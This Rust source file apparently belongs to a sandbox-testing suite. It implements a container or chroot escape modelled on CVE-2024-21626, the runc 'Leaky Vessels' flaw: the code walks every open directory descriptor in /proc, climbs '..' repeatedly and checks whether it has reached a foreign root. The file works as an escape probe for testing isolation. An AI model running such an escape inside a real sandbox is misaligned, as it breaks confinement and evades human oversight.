//! `leaked-directory [others]`: out through a directory that somebody left open. CVE-2024-21626.
//!
//! An open directory is not bound to a root: whoever holds its descriptor can step into it, and `..` leads up from
//! there past every root. In 2024 runc left the host's `/sys/fs/cgroup` open for a moment too long, and an image
//! with `WORKDIR /proc/self/fd/7` started in it.
//! Source: CVE-2024-21626 (runc before 1.1.12), found by Rory McNamara of Snyk, who called it and three others
//! "Leaky Vessels".
//! Succeeds in: a plain `chroot(8)` with a directory open.
//! Stopped by: chapter 1's `exec_program`, which marks all descriptors but three as closed on exec.

use crate::named;
use crate::processes::{proc, processes};
use coracle_ground::{Errno, Error, Result};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

/// More steps up than any path has.
const STEPS: usize = 100;

/// Higher numbers of descriptors are not looked at.
const MOST: u32 = 256;

/// Tries the working directory, then each descriptor of this process; with `others`, those of all that it may look into.
pub(crate) fn run(arguments: &[String]) -> Result<String> {
    proc()?;
    let ours = identity(Path::new("/"))?;
    let mut holders = vec!["self".to_string()];
    if arguments.first().is_some_and(|word| word == "others") {
        holders.extend(processes("/proc")?.iter().map(ToString::to_string));
    }
    let open = holders.into_iter().flat_map(|process| {
        (0..MOST).map(move |number| PathBuf::from(format!("/proc/{process}/fd/{number}")))
    });
    let doors = [PathBuf::from(".")].into_iter().chain(open.filter(|door| door.is_dir()));
    for door in doors {
        if std::env::set_current_dir(&door).is_err() {
            continue;
        }
        for _ in 0..STEPS {
            std::env::set_current_dir("..").map_err(|error| named("chdir to `..`", &error))?;
        }
        if identity(Path::new("."))? != ours {
            return Ok(format!("`{}` leads to a `/` that is not ours", door.display()));
        }
    }
    Err(Error::new("find an open directory", Errno::EBADF))
}

fn identity(path: &Path) -> Result<(u64, u64)> {
    let meta = path.metadata().map_err(|error| named(format!("stat `{}`", path.display()), &error))?;
    Ok((meta.dev(), meta.ino()))
}
